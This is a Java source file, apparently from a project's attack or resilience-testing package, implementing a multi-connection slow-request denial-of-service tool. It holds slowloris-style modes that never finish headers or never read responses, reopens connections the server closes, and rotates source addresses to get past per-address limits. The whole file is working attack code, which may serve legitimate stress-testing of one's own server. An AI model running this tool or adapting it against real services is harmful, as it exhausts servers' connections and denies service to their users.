package io.onsale.attack;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.StandardSocketOptions;
import java.net.URI;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.concurrent.ConcurrentSkipListMap;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import org.jspecify.annotations.Nullable;

/** Many badly behaved connections on one thread. Connections that the server closes are opened again. */
final class HostileSockets implements AutoCloseable {
    /** How a connection behaves. */
    enum Manner {
        /** Asks for something large, and reads nothing. */
        READS_NOTHING,
        /** Sends a byte of its headers from time to time. */
        NEVER_ENDS_ITS_HEADERS,
        /** Reads everything and stays connected. */
        STAYS
    }

    private static final int RECEIVE_BUFFER = 2048;
    private static final int OPENED_AT_ONCE = 100; // per turn, so that the accept queue does not overflow
    private static final long TURN_MS = 50;
    private static final long NUDGE_NANOS = TimeUnit.SECONDS.toNanos(10);

    private final Manner manner;
    private final URI origin;
    private final byte[] request;
    private final int count;
    private final List<InetAddress> from;
    private final Selector selector = Selector.open();
    private final Thread thread;
    private final ByteBuffer scratch = ByteBuffer.allocateDirect(16 * 1024);
    private final AtomicInteger open = new AtomicInteger();
    private final AtomicInteger cut = new AtomicInteger();
    private final AtomicInteger opened = new AtomicInteger();
    private final Map<String, AtomicInteger> answers = new ConcurrentSkipListMap<>();
    private volatile boolean closing;

    /** The state of one connection; attached to its key. */
    private static final class Bad {
        private long nudgedAt = System.nanoTime();
        private boolean answered;
    }

    HostileSockets(Manner manner, URI origin, String path, int count, List<InetAddress> from) throws IOException {
        this.manner = manner;
        this.origin = origin;
        this.count = count;
        this.from = from;
        String head = "GET " + path + " HTTP/1.1\r\nHost: " + origin.getAuthority() + "\r\n";
        this.request = (head + (manner == Manner.NEVER_ENDS_ITS_HEADERS ? "X-Never: " : "\r\n"))
                .getBytes(StandardCharsets.US_ASCII);
        this.thread = Thread.ofPlatform().daemon().name("attack " + manner).start(this::run);
    }

    String progress() {
        return String.format(
                Locale.ROOT,
                "%s: %d open, %d cut or refused, %d opened%s",
                manner.name().toLowerCase(Locale.ROOT).replace('_', ' '),
                open.get(),
                cut.get(),
                opened.get(),
                answers.isEmpty() ? "" : ", answered " + answers);
    }

    int open() {
        return open.get();
    }

    int cut() {
        return cut.get();
    }

    private void run() {
        try {
            while (!closing) {
                for (int i = 0; i < OPENED_AT_ONCE && open.get() < count; i++) {
                    openOne();
                }
                selector.select(this::serve, TURN_MS);
                nudge();
            }
        } catch (IOException e) {
            answers.computeIfAbsent(e.toString(), text -> new AtomicInteger()).incrementAndGet();
        } finally {
            for (SelectionKey key : selector.keys()) {
                close(key);
            }
        }
    }

    private void openOne() throws IOException {
        SocketChannel channel = SocketChannel.open();
        try {
            channel.configureBlocking(false);
            if (manner == Manner.READS_NOTHING) {
                channel.setOption(StandardSocketOptions.SO_RCVBUF, RECEIVE_BUFFER);
            }
            channel.bind(new InetSocketAddress(from.get(opened.get() % from.size()), 0));
            boolean connected = channel.connect(new InetSocketAddress(origin.getHost(), origin.getPort()));
            SelectionKey key = channel.register(selector, SelectionKey.OP_CONNECT, new Bad());
            open.incrementAndGet();
            opened.incrementAndGet();
            if (connected) {
                begin(key, channel);
            }
        } catch (IOException e) { // no file or port left, or refused at once
            channel.close();
            cut.incrementAndGet();
        }
    }

    private void serve(SelectionKey key) {
        SocketChannel channel = (SocketChannel) key.channel();
        try {
            if (key.isConnectable()) {
                channel.finishConnect();
                begin(key, channel);
            } else if (key.isReadable()) {
                read(channel, (Bad) key.attachment());
            }
        } catch (IOException e) {
            lost(key);
        }
    }

    private void begin(SelectionKey key, SocketChannel channel) throws IOException {
        channel.write(ByteBuffer.wrap(request));
        key.interestOps(manner == Manner.READS_NOTHING ? 0 : SelectionKey.OP_READ);
    }

    private void read(SocketChannel channel, Bad bad) throws IOException {
        scratch.clear();
        int length = channel.read(scratch);
        if (length < 0) {
            throw new IOException("closed");
        }
        if (!bad.answered && length >= 12) {
            bad.answered = true;
            byte[] status = new byte[3];
            scratch.get(9, status);
            answers.computeIfAbsent(new String(status, StandardCharsets.US_ASCII), s -> new AtomicInteger())
                    .incrementAndGet();
            if (status[0] != '2') {
                throw new IOException("refused");
            }
        }
    }

    /** Sends one more byte of the headers; behind an unanswered request it shows whether the connection still exists. */
    private void nudge() {
        long now = System.nanoTime();
        for (SelectionKey key : selector.keys()) {
            Bad bad = (Bad) key.attachment();
            if (key.isValid() && manner != Manner.STAYS && now - bad.nudgedAt > NUDGE_NANOS) {
                bad.nudgedAt = now;
                nudge(key);
            }
        }
    }

    private void nudge(SelectionKey key) {
        SocketChannel channel = (SocketChannel) key.channel();
        try {
            if (channel.isConnected()) {
                byte[] more = manner == Manner.READS_NOTHING ? new byte[] {'\r', '\n'} : new byte[] {'x'};
                channel.write(ByteBuffer.wrap(more));
            }
        } catch (IOException e) {
            lost(key);
        }
    }

    private void lost(SelectionKey key) {
        cut.incrementAndGet();
        open.decrementAndGet();
        close(key);
    }

    private static void close(@Nullable SelectionKey key) {
        try {
            if (key != null) {
                key.cancel();
                key.channel().close();
            }
        } catch (IOException e) {
            // it is closed anyway
        }
    }

    @Override
    public void close() throws IOException {
        closing = true;
        selector.wakeup();
        try {
            thread.join();
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
        selector.close();
    }
}
